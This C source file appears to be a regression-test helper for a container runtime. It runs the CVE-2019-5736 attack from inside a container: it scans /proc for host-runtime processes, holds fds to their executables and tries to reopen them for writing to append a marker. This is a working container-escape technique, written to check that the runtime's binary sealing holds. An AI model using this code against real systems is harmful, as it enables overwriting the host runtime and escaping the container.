/* SPDX-License-Identifier: MIT */
/*
 * The CVE-2019-5736 attack, run inside a container by 180-exe-seal.bats:
 * watch /proc for processes whose executable is not this container's own
 * (a `hull exec` child on its way to execve), keep an fd to their
 * /proc/PID/exe (O_PATH, and O_RDONLY where allowed), and keep trying to
 * reopen each kept fd for writing through /proc/self/fd/N and append a
 * marker: that succeeds once no process runs the file any more, unless the
 * file is a sealed copy or cannot be opened in the first place.
 *
 * Usage: exe-watcher SECONDS. Prints one summary line at the end:
 * "seen=N denied=N grabbed=N wrote=N" and a "wrote PATH" line per success.
 * Static, libc only, so that it runs in the busybox test image.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_FDS 256

static int kept[MAX_FDS];
static char kept_path[MAX_FDS][256];
static pid_t kept_pid[MAX_FDS];
static int n_kept;
static long seen, denied, wrote;
static pid_t seen_pid[4096];
static int n_seen_pid;

static int already_seen(pid_t pid)
{
	for (int i = 0; i < n_seen_pid; i++)
		if (seen_pid[i] == pid)
			return 1;
	if (n_seen_pid < (int) (sizeof(seen_pid) / sizeof(seen_pid[0])))
		seen_pid[n_seen_pid++] = pid;
	return 0;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

/* Try to reopen every kept fd for writing and append the marker. */
static void try_write(void)
{
	for (int i = 0; i < n_kept; i++) {
		char p[64];
		int w;

		if (kept[i] < 0)
			continue;
		snprintf(p, sizeof(p), "/proc/self/fd/%d", kept[i]);
		w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w < 0)
			continue; /* ETXTBSY while it runs; EPERM/EACCES/EROFS when protected */
		if (write(w, "HULL-EXE-OVERWRITTEN\n", 21) == 21) {
			wrote++;
			printf("wrote %s\n", kept_path[i]);
			fflush(stdout);
		}
		close(w);
		close(kept[i]);
		kept[i] = -1;
	}
}

static pid_t max_pid;

/* Look at one pid: keep an fd to its executable if it is not ours. */
static void grab(pid_t pid, const char *self_exe)
{
	{
		char p[64], target[256];
		ssize_t n;
		int fd;

		if (pid <= 0 || pid == getpid())
			return;
		snprintf(p, sizeof(p), "/proc/%d/exe", (int) pid);
		n = readlink(p, target, sizeof(target) - 1);
		if (n < 0) {
			/* kernel threads have none; a non-dumpable task refuses us */
			if ((errno == EACCES || errno == EPERM) && !already_seen(pid)) {
				seen++;
				denied++;
			}
			return;
		}
		target[n] = '\0';
		if (strcmp(target, self_exe) == 0 || strcmp(target, "/bin/busybox") == 0)
			return;
		/* the task was denied a moment ago (full capabilities): try again now */
		if (already_seen(pid) && n_kept > 0 && kept_pid[n_kept - 1] == pid)
			return;
		if (!already_seen(pid))
			seen++;
		if (n_kept >= MAX_FDS)
			return;
		fd = open(p, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			fd = open(p, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			denied++;
			return;
		}
		kept[n_kept] = fd;
		kept_pid[n_kept] = pid;
		snprintf(kept_path[n_kept], sizeof(kept_path[0]), "%s", target);
		n_kept++;
	}
}

/* Every pid in /proc, then spin on the next few pids, where the next exec child will be. */
static void scan(const char *self_exe)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d))) {
		pid_t pid = (pid_t) atoi(e->d_name);

		if (pid > max_pid && pid != getpid())
			max_pid = pid;
		grab(pid, self_exe);
	}
	closedir(d);
	for (int spin = 0; spin < 2000; spin++)
		for (pid_t pid = max_pid + 1; pid <= max_pid + 3; pid++)
			grab(pid, self_exe);
}

/* SIGTERM ends the watch early, with the summary still printed */
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void) sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	char self_exe[256];
	double end = now() + (argc > 1 ? atof(argv[1]) : 10.0);
	ssize_t n = readlink("/proc/self/exe", self_exe, sizeof(self_exe) - 1);

	if (n < 0)
		return 1;
	self_exe[n] = '\0';
	signal(SIGTERM, on_term);
	printf("watching\n");
	fflush(stdout);
	while (!stop && now() < end) {
		scan(self_exe);
		try_write();
	}
	printf("seen=%ld denied=%ld grabbed=%d wrote=%ld\n", seen, denied, n_kept, wrote);
	return 0;
}
